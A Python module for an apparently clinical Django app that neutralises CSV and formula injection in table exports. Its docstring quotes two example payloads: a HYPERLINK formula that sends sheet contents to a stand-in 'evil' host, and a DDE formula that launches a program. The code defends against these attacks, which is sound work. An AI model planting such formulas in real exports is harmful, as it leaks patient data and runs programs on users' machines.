"""Spreadsheet exports that cannot run what they hold (CSV and formula injection).

Patient and plan names come from Pinnacle files, MRNs and cells from R&V listings, file names from
whoever named the file: anyone who can type a plan name can make it start with ``=``. Excel, WPS and
LibreOffice read a CSV cell that starts with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return as
a formula (``=HYPERLINK("http://evil/?"&A1,"click")`` sends the sheet away, ``=cmd|' /C calc'!A0``
starts a program), and openpyxl stores a text value that starts with ``=`` as a live XLSX formula.

Every table export is a ``SafeTableExport`` (``audit.exports.AuditedExportMixin`` uses it):

* CSV: a text cell that starts like a formula gets a leading apostrophe (``'=HYPERLINK(...)``), the
  OWASP advice: a spreadsheet then takes the cell as text.
* XLSX: every text cell is stored as text, never as a formula or an error code, with the original
  characters (no apostrophe); one that starts like a formula also carries Excel's quote prefix, so
  editing it in Excel keeps it text.

Only text is touched: numbers, dates and booleans are written as typed values (a negative number stays
a number). Other formats (TSV, ODS, JSON, ...) are not offered: they would bypass both rules.
"""
from __future__ import annotations

from typing import Any

from django_tables2.export import TableExport
from tablib import Dataset
from tablib.formats._xlsx import XLSXFormat  # tablib names its XLSX writer only in this module

# The first characters that make a spreadsheet read a cell as a formula; the full-width forms are
# accepted as formula signs by WPS and by Excel in Chinese locales.
FORMULA_STARTS = frozenset("=+-@\t\r＝＋－＠")


def starts_like_formula(value: Any) -> bool:
    """Whether ``value`` is text that a spreadsheet would read as a formula."""
    return isinstance(value, str) and value[:1] in FORMULA_STARTS


def neutralise_cell(value: Any) -> Any:
    """The value to write into a CSV cell: text that starts like a formula gets a leading apostrophe;
    any other value, typed values included, is returned unchanged."""
    return "'" + value if starts_like_formula(value) else value


def keep_text_as_text(cell) -> None:
    """Store an openpyxl cell that holds text as text: openpyxl types a str starting with ``=`` as a
    formula (``f``) and ``#N/A`` and the like as errors (``e``) when it is assigned."""
    if not isinstance(cell.value, str):
        return
    cell.data_type = "s"
    if starts_like_formula(cell.value):
        cell.quotePrefix = True  # what Excel sets for a cell typed with a leading apostrophe


def neutralised_dataset(dataset: Dataset) -> Dataset:
    """A copy of ``dataset`` with every cell, headers included, passed through ``neutralise_cell``."""
    copy = Dataset(title=dataset.title)
    if dataset.headers is not None:
        copy.headers = [neutralise_cell(value) for value in dataset.headers]
    for row in dataset:
        copy.append([neutralise_cell(value) for value in row])
    return copy


class _TextKeepingXLSX(XLSXFormat):
    """tablib's XLSX writer (bold header, frozen first row, column widths) with text kept text."""

    @classmethod
    def dset_sheet(cls, dataset, ws, *args, **kwargs):
        super().dset_sheet(dataset, ws, *args, **kwargs)
        for row in ws.iter_rows():
            for cell in row:
                keep_text_as_text(cell)


class SafeTableExport(TableExport):
    """django-tables2's export, limited to CSV and XLSX, with formula-like text made inert."""

    FORMATS = {name: TableExport.FORMATS[name] for name in (TableExport.CSV, TableExport.XLSX)}

    @classmethod
    def is_valid_format(cls, export_format):
        return export_format in cls.FORMATS

    def export(self):
        if self.format == self.XLSX:
            return _TextKeepingXLSX.export_set(self.dataset)
        return neutralised_dataset(self.dataset).export(self.format)
